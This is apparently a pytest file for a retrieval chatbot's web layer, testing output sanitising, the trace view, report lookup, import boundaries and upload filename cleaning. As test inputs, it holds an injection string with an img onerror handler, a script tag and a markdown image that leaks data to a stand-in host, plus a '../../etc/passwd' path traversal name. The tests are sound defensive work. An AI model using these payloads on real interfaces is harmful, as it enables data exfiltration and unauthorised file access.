"""Small pieces of the web layer: output sanitising, the trace view, the report lookup, imports."""

from __future__ import annotations

import ast
from pathlib import Path

from chatbot.web import admin, views
from chatbot.web.documents import safe_filename

WEB = Path(__file__).resolve().parents[2] / "chatbot" / "web"


def test_gradio_is_imported_by_the_ui_module_only() -> None:
    importers = []
    for path in WEB.glob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            names = (
                [a.name for a in node.names]
                if isinstance(node, ast.Import)
                else [node.module or ""]
                if isinstance(node, ast.ImportFrom)
                else []
            )
            if any(n == "gradio" or n.startswith("gradio.") for n in names):
                importers.append(path.name)
    assert sorted(set(importers)) == ["ui.py"]


def test_model_output_cannot_inject_markup_or_images() -> None:
    text = (
        "<img src=x onerror=alert(1)> ![x](https://evil.example/leak?d=secret) <script>1</script>"
    )
    safe = views.safe_markdown(text)
    assert "<img" not in safe and "<script" not in safe
    assert "![" not in safe  # no markdown image can form
    shown = views.answer_markdown(
        "ok [1]",
        [{"number": 1, "title": "<b>T</b>", "source": "/srv/x/doc.md", "quote": "a < b"}],
        refused=False,
    )
    assert "&lt;b&gt;T&lt;/b&gt;" in shown and "/srv/x" not in shown and "a &lt; b" in shown


def test_trace_view_explains_the_answer() -> None:
    trace = {
        "understanding": {"standalone_question": "How?", "language": "en", "intent": "question"},
        "retrieval": {
            "vector_hits": 3,
            "keyword_hits": 2,
            "selected": [{"chunk_id": "c1", "vector": 0.71, "bm25": 3.2, "vector_rank": 1}],
        },
        "context_chunk_ids": ["c1"],
        "latency_ms": {"retrieve_ms": 12.0, "total_ms": 40.0},
        "model": "fake:x",
        "prompts": ["answer@v1"],
        "gate": None,
    }
    text = views.trace_markdown(trace, lambda chunk_id: "Chain care")
    assert "How?" in text and "Chain care" in text and "0.710" in text
    assert "retrieve 12 ms" in text and "total 40 ms" in text
    refused = views.trace_markdown({**trace, "gate": "low_relevance", "refused": True})
    assert "not asked" in refused and "I don't know" in refused
    passage = views.trace_markdown({**trace, "gate": "closest_passage"})
    assert "source numbers only" in passage and "I don't know" not in passage
    assert "spelling" not in text and "Not in any passage" not in text
    retrieval = {**trace["retrieval"], "respelt": {"carageenan": "carrageenan"}}  # type: ignore[dict-item]
    words = views.trace_markdown({**trace, "retrieval": retrieval, "unmatched_words": ["caliber"]})
    assert "also tried the spelling:** carageenan → carrageenan" in words
    assert "Not in any passage given to the model:** caliber" in words


def test_latest_report_prefers_the_newest(tmp_path: Path) -> None:
    root, data = tmp_path / "root", tmp_path / "data"
    assert "No evaluation report" in admin.latest_report(root, data)
    for base, text in ((root, "# old"), (data, "# new")):
        (base / "reports" / "latest").mkdir(parents=True)
        (base / "reports" / "latest" / "report.md").write_text(text, encoding="utf-8")
    import os

    os.utime(root / "reports" / "latest" / "report.md", (1, 1))
    assert admin.latest_report(root, data) == "# new"


def test_upload_names_are_made_safe() -> None:
    assert safe_filename("../../etc/passwd.md") == "passwd.md"
    assert safe_filename("C:\\Users\\me\\Notes.MD") == "Notes.md"
    assert safe_filename("报告.pdf") == "报告.pdf"
    for bad in ("x.exe", "noext", ".md"):
        try:
            safe_filename(bad)
        except ValueError:
            continue
        raise AssertionError(bad)
